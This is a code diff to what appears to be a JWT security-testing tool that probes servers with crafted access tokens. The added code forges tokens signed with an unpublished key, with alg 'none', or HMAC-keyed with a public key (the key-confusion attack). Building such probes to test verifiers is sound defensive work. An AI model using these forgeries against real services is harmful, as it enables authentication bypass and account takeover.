@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import hmac
 import json
+import secrets
 import threading
 import time
 from dataclasses import dataclass, field
@@ -125,13 +126,8 @@ def _resign(claims: dict[str, Any], alg: str, key: RSAKey | ECKey) -> str:
 
 def _hs256_with_public_key(claims: dict[str, Any], ring: KeyRing) -> str:
     """The key-confusion forgery: HMAC with the RSA public key's PEM as the secret."""
-    public = ring.signing["RS256"].public_key
-    pem = public.public_bytes(
-        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
-    )
-    signing_input = _unsigned({"alg": "HS256", "typ": "JWT"}, claims)
-    mac = hmac.new(pem, signing_input.encode(), "sha256").digest()
-    return f"{signing_input}.{base64url.encode(mac)}"
+    pem = _public_secret(ring.signing["RS256"], "hs256-public-key", ring)
+    return _hmac_signed({"alg": "HS256", "typ": "JWT"}, claims, pem)
 
 
 def forge_token_response(body: dict[str, Any], how: str, ring: KeyRing) -> dict[str, Any]:
@@ -141,3 +137,64 @@ def forge_token_response(body: dict[str, Any], how: str, ring: KeyRing) -> dict[
     elif "id_token" in forged:
         forged["id_token"] = forge_id_token(str(forged["id_token"]), how, ring)
     return forged
+
+
+# -- crafted access tokens (POST /probe/mint): what `valetkey probe mcp-server` presents ------
+
+MINT_SIGNINGS = ("sandbox", "unknown-key", "none", "hs256-public-key", "hs256-public-jwk")
+KID_OF_SIGNING_KEY = object()  # the request left `kid` out: the signing key's own kid
+
+
+@dataclass(frozen=True)
+class Crafted:
+    value: str
+    jti: str
+    header: dict[str, Any]
+
+
+def mint_crafted(
+    claims: dict[str, Any], signing: str, kid: str | object | None, ring: KeyRing
+) -> Crafted:
+    """An access token with whatever claims the probe chose, signed as `signing` says:
+    `sandbox` with the sandbox's ES256 key, `unknown-key` with a key nobody publishes,
+    `none` unsigned (RFC 7519 §6), `hs256-public-*` HMAC keyed with the sandbox's public key
+    as PEM or as JWK JSON (the key confusion of RFC 8725 §3.1)."""
+    body = {**claims}
+    body.setdefault("jti", secrets.token_hex(16))
+    stranger = ECKey.generate_key("P-256", private=True, auto_kid=True)
+    key = stranger if signing == "unknown-key" else ring.signing["ES256"]
+    header: dict[str, Any] = {"alg": _alg(signing), "typ": "at+jwt"}
+    chosen = key.kid if kid is KID_OF_SIGNING_KEY else kid
+    if chosen is not None:
+        header["kid"] = chosen
+    if signing in ("sandbox", "unknown-key"):
+        payload = json.dumps(body, separators=(",", ":")).encode()
+        value = jws.serialize_compact(header, payload, key, algorithms=["ES256"])
+    elif signing == "none":
+        value = _unsigned(header, body) + "."
+    else:
+        value = _hmac_signed(header, body, _public_secret(key, signing, ring))
+    return Crafted(value, str(body["jti"]), header)
+
+
+def _alg(signing: str) -> str:
+    return {"none": "none", "hs256-public-key": "HS256", "hs256-public-jwk": "HS256"}.get(
+        signing, "ES256"
+    )
+
+
+def _public_secret(key: RSAKey | ECKey, signing: str, ring: KeyRing) -> bytes:
+    """The public key's bytes as a careless verifier would pass them to HMAC: its PEM, or
+    its JWKS entry as JSON (`json.dumps` of the published object)."""
+    if signing == "hs256-public-jwk":
+        entry = next(k for k in ring.jwks["keys"] if k.get("kid") == key.kid)
+        return json.dumps(entry).encode()
+    return key.public_key.public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
+
+
+def _hmac_signed(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
+    signing_input = _unsigned(header, claims)
+    mac = hmac.new(secret, signing_input.encode(), "sha256").digest()
+    return f"{signing_input}.{base64url.encode(mac)}"
